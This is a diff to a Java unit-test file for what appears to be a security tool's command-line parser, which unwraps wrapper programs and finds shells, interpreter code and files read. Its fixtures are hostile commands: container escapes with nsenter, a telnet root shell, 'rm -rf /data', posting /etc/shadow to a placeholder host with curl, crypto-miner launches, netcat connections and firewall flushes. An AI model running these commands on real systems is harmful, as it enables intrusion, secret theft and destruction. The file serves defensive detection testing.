@@ -2,6 +2,7 @@ package dev.tocsin.command;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.util.List;
 import java.util.stream.Collectors;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -22,8 +23,8 @@ class CommandLineTest {
       value = {
         // one file, many programs
         "/bin/busybox                | nsenter -t 1 -m sh             | busybox nsenter",
-        "/bin/busybox.static         | sh                             | busybox.static sh",
-        "/bin/busybox-extras         | telnetd -l /bin/sh             | busybox-extras telnetd",
+        "/bin/busybox.static         | sh                             | busybox sh",
+        "/bin/busybox-extras         | telnetd -l /bin/sh             | busybox telnetd",
         "/bin/busybox                | --list                         | busybox",
         "/usr/bin/toybox             | mount /dev/sda1 /mnt           | toybox mount",
         "/usr/bin/coreutils          | --coreutils-prog=rm -rf /data  | coreutils rm",
@@ -35,6 +36,11 @@ class CommandLineTest {
         "/snap/bin/microk8s          | kubectl get secrets            | microk8s kubectl",
         "/snap/bin/microk8s.kubectl  | get secrets                    | microk8s.kubectl kubectl",
         "/usr/bin/minikube           | kubectl -- get pods            | minikube kubectl",
+        "/usr/bin/minikube           | -p x kubectl -- get pods       | minikube kubectl",
+        "/usr/local/bin/k3s          | --debug kubectl get pods       | k3s kubectl",
+        "/var/lib/rancher/rke2/bin/kubectl | get secrets              | kubectl",
+        "/usr/sbin/xtables-nft-multi | iptables -F                    | xtables-nft-multi iptables",
+        "/usr/bin/dropbearmulti      | dbclient -R 1:h:2 h            | dropbearmulti dbclient",
         "/usr/bin/snap               | run nmap -sS h                 | snap nmap",
         // wrappers
         "/usr/bin/env                | X=1 nsenter -t 1               | env nsenter",
@@ -58,6 +64,21 @@ class CommandLineTest {
         "/lib/ld-musl-x86_64.so.1    | --library-path /l /tmp/y       | ld-musl-x86_64.so.1 y",
         "/usr/bin/sudo               | env nice -5 busybox wget x     | sudo env nice busybox wget",
         "/usr/bin/sh                 | -c id                          | sh id",
+        "/usr/bin/setpriv            | --reuid 0 --nnp /tmp/x         | setpriv x",
+        "/usr/bin/prlimit            | --nofile=5 nc h 1              | prlimit nc",
+        "/usr/bin/numactl            | -N 0 /tmp/xmrig                | numactl xmrig",
+        "/usr/bin/choom              | -n -1000 -- /tmp/xmrig         | choom xmrig",
+        "/usr/bin/cpulimit           | -l 50 -- /tmp/xmrig            | cpulimit xmrig",
+        "/usr/bin/proxychains4       | -q -f /etc/p curl x            | proxychains curl",
+        "/usr/bin/torsocks           | wget x                         | torsocks wget",
+        "/usr/bin/chpst              | -u root -e /e nc h 1           | chpst nc",
+        "/command/s6-setuidgid       | nobody nginx                   | s6-setuidgid nginx",
+        "/usr/bin/linux32            | nc h 1                         | linux32 nc",
+        "/usr/bin/proot              | -r /host -0 bash               | proot bash",
+        "/usr/bin/ssh-agent          | bash -i                        | ssh-agent bash",
+        "/usr/bin/sg                 | docker -c \"docker ps\"         | sg sh docker",
+        "/usr/sbin/capsh             | --user=x -- -c id              | capsh bash id",
+        "/usr/sbin/capsh             | --print                        | capsh",
         "/usr/bin/tini               | -- nginx -g x                  | tini nginx",
         // no wrapper: it is what it does
         "/usr/bin/nsenter            | -t 1 -m -- systemctl stop x    | nsenter",
@@ -71,9 +92,9 @@ class CommandLineTest {
   void envSplitsAString() {
     CommandLine line = of("/usr/bin/env", "-S \"python3 -u\" /opt/x.py");
 
-    assertThat(line.effective().name()).isEqualTo("python3");
+    assertThat(line.effective().name()).isEqualTo("python");
     assertThat(line.effective().arguments()).containsExactly("-u", "/opt/x.py");
-    assertThat(line.script()).isEqualTo("/opt/x.py");
+    assertThat(line.effective().script()).isEqualTo("/opt/x.py");
   }
 
   @Test
@@ -98,7 +119,7 @@ class CommandLineTest {
 
     assertThat(line.effective().name()).isEqualTo("ufw");
     assertThat(line.effective().arguments()).containsExactly("--force", "disable");
-    assertThat(line.script()).isEqualTo("/usr/sbin/ufw");
+    assertThat(line.effective().script()).isEqualTo("/usr/sbin/ufw");
   }
 
   @Test
@@ -112,7 +133,7 @@ class CommandLineTest {
   void programThatIsGivenItselfIsNoScript() {
     assertThat(of("/usr/bin/rm", "/usr/bin/rm").effective().arguments())
         .containsExactly("/usr/bin/rm");
-    assertThat(of("/usr/bin/rm", "/usr/bin/rm").script()).isEmpty();
+    assertThat(of("/usr/bin/rm", "/usr/bin/rm").effective().script()).isEmpty();
   }
 
   @ParameterizedTest
@@ -131,7 +152,140 @@ class CommandLineTest {
         "/usr/bin/cat      | /tmp/a.sh               | ''",
       })
   void fileThatAnInterpreterRunsIsKnown(String binary, String arguments, String script) {
-    assertThat(of(binary, arguments).script()).isEqualTo(script);
+    assertThat(of(binary, arguments).effective().script()).isEqualTo(script);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "/usr/bin/sh         | ''                       ",
+        "/usr/bin/sh         | -                        ",
+        "/usr/bin/sh         | +m                       ",
+        "/usr/bin/sh         | -s -- server             ",
+        "/usr/bin/bash       | -i                       ",
+        "/usr/bin/bash       | +o history               ",
+        "/usr/bin/bash       | --rcfile /tmp/rc -i      ",
+        "/usr/bin/bash       | -O extglob -o pipefail   ",
+        "/usr/bin/bash       | /dev/stdin               ",
+        "/usr/bin/bash       | /proc/self/fd/0          ",
+        "/bin/bash-static    | ''                       ",
+        "/usr/bin/bash5.2    | ''                       ",
+        "/usr/bin/mksh       | ''                       ",
+        "/usr/bin/fish       | -l                       ",
+        "/usr/bin/pwsh       | ''                       ",
+        "/usr/bin/pwsh       | -NoLogo                  ",
+        "/bin/busybox        | sh                       ",
+        "/bin/busybox.static | ash -i                   ",
+        "/usr/bin/env        | -i bash --noprofile      ",
+        "/usr/bin/sudo       | -s                       ",
+        "/usr/bin/sh         | -c bash                  ",
+        "/usr/bin/script     | -qc /bin/bash /dev/null  ",
+      })
+  void shellTakesItsCommandsFromItsInput(String binary, String arguments) {
+    Command command = of(binary, arguments).effective();
+
+    assertThat(command.isShell()).isTrue();
+    assertThat(command.runsInput()).isTrue();
+    assertThat(command.isInterpreter()).isFalse();
+    assertThat(command.code()).isEmpty();
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "/usr/bin/sh      | --version         ",
+        "/usr/bin/bash    | --help            ",
+        "/usr/bin/bash    | -c \"id; ls\"      ",
+        "/usr/bin/bash    | x.sh              ",
+        "/usr/bin/pwsh    | -File x.ps1       ",
+        "/usr/bin/python3 | -V                ",
+        "/usr/bin/python3 | -m http.server    ",
+        "/usr/bin/perl    | -ne print         ",
+        "/usr/bin/awk     | {print}           ",
+        "/usr/bin/ssh     | host              ",
+        "/usr/bin/cat     | ''                ",
+      })
+  void othersDoNot(String binary, String arguments) {
+    assertThat(of(binary, arguments).effective().runsInput()).isFalse();
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "/usr/bin/python3        | -c \"import os\"             | import os",
+        "/usr/local/bin/python3.11 | -Bc pass x                | pass",
+        "/usr/bin/python3        | -cpass                      | pass",
+        "/usr/bin/perl           | -MIO -e print               | print",
+        "/usr/bin/perl5.36       | -ne print                   | print",
+        "/usr/bin/perl           | -E say                      | say",
+        "/usr/bin/perl           | -lne print                  | print",
+        "/usr/bin/node           | --eval=1                    | 1",
+        "/usr/bin/node           | -pe 1                       | 1",
+        "/usr/bin/ruby3.2        | -rsocket -ex                | x",
+        "/usr/bin/php8.2         | -r phpinfo();               | phpinfo();",
+        "/usr/bin/lua5.4         | -e x                        | x",
+        "/usr/bin/gawk           | -F : {print}  x             | {print}",
+        "/usr/bin/mawk           | -f x.awk y                  | ''",
+        "/usr/bin/env            | -i python3 -c pass          | pass",
+        "/usr/bin/python3        | x.py -c pass                | ''",
+        "/usr/bin/sed            | -e s/a/b/                   | ''",
+      })
+  void codeOfAnInterpreterIsItsText(String binary, String arguments, String code) {
+    assertThat(of(binary, arguments).effective().code()).isEqualTo(code);
+  }
+
+  @Test
+  void severalTextsAreLinesOfOne() {
+    Command command = of("/usr/bin/perl", "-e a -e b").effective();
+
+    assertThat(command.code()).isEqualTo("a\nb");
+    assertThat(command.isInterpreter()).isTrue();
+    assertThat(command.isShell()).isFalse();
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "/usr/bin/rm      | -rf /data                        | rm",
+        "/bin/busybox     | rm -rf /data                     | busybox rm",
+        "/usr/bin/sh      | -c \"cd / && sudo rm x; true\"    | sh cd sudo rm true",
+        "/usr/bin/sh      | -c \"exec rm x\"                  | sh rm",
+        "/usr/bin/find    | / -name x -exec rm -rf {} +      | find rm",
+        "/usr/bin/find    | . -exec sh -c \"a {}; b\" ; -ok c ; | find sh a b c",
+        "/usr/bin/sh      | -c \"find / -execdir env nc h 1 \\; -print\" | sh find env nc",
+        "/usr/bin/su      | root -c \"rm x && tee y\"         | su sh rm tee",
+      })
+  void allCommandsAreInOneList(String binary, String arguments, String names) {
+    assertThat(of(binary, arguments).commands())
+        .extracting(Command::name)
+        .containsExactly(names.split(" "));
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "/usr/bin/sh   | -c \"cat /etc/shadow; id\" /x | /x",
+        "/usr/bin/awk  | {print} /etc/shadow           | /etc/shadow",
+        "/usr/bin/gawk | -e {print} /etc/shadow        | /etc/shadow",
+        "/usr/bin/curl | -d @/etc/shadow https://h     | /etc/shadow",
+        "/usr/bin/curl | -o /tmp/x -K /etc/c https://h | /etc/c",
+      })
+  void codeAndAddressesAreNoFiles(String binary, String arguments, String reads) {
+    assertThat(of(binary, arguments).chain().getFirst().reads()).containsExactly(reads);
+  }
+
+  @Test
+  void commandIsLookedForWithItsOptions() {
+    Command command = of("/usr/bin/base64", "--dec x").effective();
+
+    assertThat(command.isAnyOf(List.of("xxd -r", "base64 -d"))).isTrue();
+    assertThat(command.isAnyOf(List.of("base64"))).isTrue();
+    assertThat(command.isAnyOf(List.of("base64 -w", "openssl"))).isFalse();
   }
 
   @Test
@@ -144,6 +298,8 @@ class CommandLineTest {
   void chainIsBounded() {
     CommandLine line = of("/usr/bin/env", "env ".repeat(500) + "x");
 
-    assertThat(line.chain()).hasSizeLessThan(10);
+    assertThat(line.chain()).hasSizeLessThan(50);
+    assertThat(line.commands()).hasSizeLessThan(50);
+    assertThat(of("/usr/bin/find", "-exec find ".repeat(2_000)).commands()).hasSizeLessThan(500);
   }
 }
